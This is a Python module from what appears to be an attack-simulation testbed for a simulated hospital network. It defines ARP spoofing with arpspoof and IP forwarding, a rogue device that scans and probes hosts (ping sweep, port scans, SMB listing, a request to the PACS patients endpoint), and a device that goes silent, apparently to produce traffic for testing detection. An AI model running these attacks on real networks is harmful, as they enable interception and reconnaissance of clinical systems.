"""Devices that are not what they should be: another's address, a stranger on the wire, one that falls silent."""

import signal
import socket
import time
from pathlib import Path

from ..plan import HOSTS
from ..work import Work, attack
from .means import EMPLOYEE, by, smb

_FORWARDING = Path("/proc/sys/net/ipv4/conf/eth0/forwarding")
_REDIRECTS = Path("/proc/sys/net/ipv4/conf/eth0/send_redirects")


@attack("arp-spoofing")
def arp_spoofing(w: Work, intensity: str) -> None:
    """This host says that it were the router and its neighbours (arpspoof) and passes on what it gets: three neighbours for
    60 s, one for 60 s, or one three times for 10 s."""
    near = [host for host in HOSTS.values() if host.subnet is w.host.subnet and host is not w.host and not host.absent]
    victims = w.rng.sample(near, by(intensity, 3, 1, 1))
    rounds, seconds = by(intensity, (1, 60), (1, 60), (3, 10))
    _FORWARDING.write_text("1")
    _REDIRECTS.write_text("0")
    try:
        for turn in range(rounds):
            if turn and not w.sleep(300):
                return
            tools = [w.start("arpspoof", "-i", "eth0", "-t", victim.v4, "-r", f"{victim.subnet.v4}.1") for victim in victims]
            w.pause(seconds)
            for each in tools:
                # Told so, it puts the addresses right again, which takes some seconds.
                each.send_signal(signal.SIGTERM)
            for each in tools:
                each.wait()
    finally:
        _FORWARDING.write_text("0")


@attack("rogue-device", owns=("rogue",))
def rogue_device(w: Work, intensity: str) -> None:
    """A small computer is plugged in, takes an address and looks around: names, neighbours, shares, web pages; quickly,
    slower, or with long pauses."""
    w.network.plug(w.host)
    w.pause(3)
    pause = by(intensity, 4, 40, 240)
    servers = by(intensity, ("pacs", "his", "files", "mail", "broker", "backup", "db"), ("pacs", "his", "files", "broker"),
                 ("pacs", "files"))
    for name in servers:
        w.run("dig", "+short", "+tries=1", f"@{HOSTS['infra'].v4}", HOSTS[name].fqdn, good=range(256))
        w.sleep(pause)
    near = by(intensity, range(1, 70), (1, 11, 12, 21, 22, 23, 31, 51), (1, 11, 31))
    for number in near:
        w.run("ping", "-n", "-c", 1, "-W", 1, f"{w.host.subnet.v4}.{number}", good=(0, 1))
        w.sleep(pause / 8)
    for name in servers:
        for port in (22, 80, 445, 8042, 8080):
            with socket.socket() as probe:
                probe.settimeout(1)
                w.log(f"{name}:{port} {probe.connect_ex((HOSTS[name].v4, port))}")
        w.sleep(pause)
    smb(w, "public", "ls", EMPLOYEE)
    w.run("curl", "-s", "-o", "/dev/null", "--max-time", 10, f"http://{HOSTS['pacs'].v4}:8042/patients")


@attack("silent-device")
def silent_device(w: Work, intensity: str) -> None:
    """This device's cable is pulled: to the end, for half of what is left, or for 100 real seconds; no packet shows it."""
    left = w.clock.until - time.time()
    seconds = by(intensity, left, left / 2, min(100.0, left))
    start = time.time()
    w.network.plug(w.host, False)
    try:
        for destination, port, protocol in _TALKS_TO.get(w.host.role, ()):
            w.declare(w.host.v4, HOSTS[destination].v4, port, protocol, start, start + seconds)
        w.pause(seconds)
    finally:
        w.network.plug(w.host)


# What a device of a role does all the time, and not while it is silent.
_TALKS_TO = {
    "patient monitor": (("broker", 1883, "tcp"),),
    "infusion pump gateway": (("broker", 1883, "tcp"),),
    "laboratory analyser": (("his", 2575, "tcp"),),
}
